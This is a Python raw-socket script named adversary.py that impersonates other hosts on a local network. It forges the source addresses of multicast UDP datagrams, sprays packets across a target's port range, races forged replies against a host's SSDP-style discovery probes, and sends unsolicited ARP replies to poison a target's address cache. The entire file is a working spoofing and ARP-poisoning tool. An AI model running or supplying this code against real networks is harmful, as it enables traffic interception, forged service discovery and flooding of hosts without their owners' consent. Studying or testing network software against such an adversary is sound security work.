"""A host that lies about who it is: adversary.py DEVICE SOURCE PORT [GROUP] < lines of hex, one a datagram.

Each becomes a frame with the sender's address SOURCE, which is some other host's, to PORT of a multicast group. SOURCE
"each": every line begins with its sender.
adversary.py DEVICE SOURCE PORT HOST MAC FIRST LAST: from PORT to all those ports of HOST, until it is ended.
adversary.py DEVICE answers PORT HOST MAC < lines: as "each", over and over until it is ended, to the port of HOST that its
probes for PORT leave from.
adversary.py DEVICE claims ADDRESS OWN_MAC HOST MAC: answers of address resolution to HOST, that ADDRESS is at OWN_MAC, ten a
second until it is ended."""

import select
import socket
import struct
import sys


def bytes_of(mac):
    return bytes.fromhex(mac.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(own_mac, source, group, port, payload, mac=None):
    """Ethernet, IPv4 and UDP around it; a UDP checksum of 0 stands for none (RFC 768)."""
    sender, receiver = socket.inet_aton(source), socket.inet_aton(group)
    udp = struct.pack("!4H", port, port, 8 + len(payload), 0) + payload
    head = struct.pack("!2B3H2BH", 0x45, 0, 20 + len(udp), 0, 0, 4, socket.IPPROTO_UDP, 0) + sender + receiver
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    group_mac = mac or b"\x01\x00\x5e" + bytes([receiver[1] & 0x7F]) + receiver[2:]
    return group_mac + own_mac + b"\x08\x00" + head + udp


def spray(wire, datagram, first, last):
    datagram, at = bytearray(datagram), 14 + 20 + 2
    print("spraying", flush=True)
    while True:
        for port in range(first, last + 1):
            datagram[at:at + 2] = port.to_bytes(2, "big")
            try:
                wire.send(datagram)
            except OSError:  # the device's queue is full
                select.select([], [wire], [])


def probing_port(wire, host, port):
    """Of the first multicast probe that passes."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as ear:
        ear.bind(wire.getsockname()[:2])
        while True:
            heard = ear.recv(2048)
            if heard[23] == socket.IPPROTO_UDP and heard[26:30] == socket.inet_aton(host) and heard[30] >= 224:
                source, target = struct.unpack("!2H", heard[34:38])
                if target == port:
                    return source


def answer(wire, own_mac, host, port, mac, lines):
    """The senders' frames, to where the probes leave from."""
    target = probing_port(wire, host, port).to_bytes(2, "big")
    frames = []
    for line in lines:
        sender, text = line.split()
        each = bytearray(frame(own_mac, sender, host, port, bytes.fromhex(text), mac))
        each[36:38] = target
        frames.append(bytes(each))
    while True:
        for each in frames:
            paced(wire, each)


def claim(wire, address, own_mac, host, mac):
    """RFC 826: a reply that was not asked for. The kernel takes it for an entry that it has."""
    print("claiming", flush=True)
    while True:
        wire.send(mac + own_mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own_mac + socket.inet_aton(address) +
                  mac + socket.inet_aton(host))
        select.select([], [], [], 0.1)


def paced(wire, datagram):
    """Some 5,000 a second."""
    wire.send(datagram)
    select.select([], [], [], 0.0001)


def main(device, source, port, host="239.255.255.250", mac=None, first=0, last=0):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((device, 0))
        own_mac = wire.getsockname()[4]
        if source == "claims":
            claim(wire, port, bytes_of(host), mac, bytes_of(first))
        if source == "answers":
            answer(wire, own_mac, host, int(port), bytes_of(mac), sys.stdin)
        for line in sys.stdin:
            if source == "each":
                sender, line = line.split()
                paced(wire, frame(own_mac, sender, host, int(port), bytes.fromhex(line)))
                continue
            datagram = frame(own_mac, source, host, int(port), bytes.fromhex(line),
                             bytes_of(mac) if mac else None)
            if mac is None:
                wire.send(datagram)
            else:
                spray(wire, datagram, int(first), int(last))


if __name__ == "__main__":
    main(*sys.argv[1:])
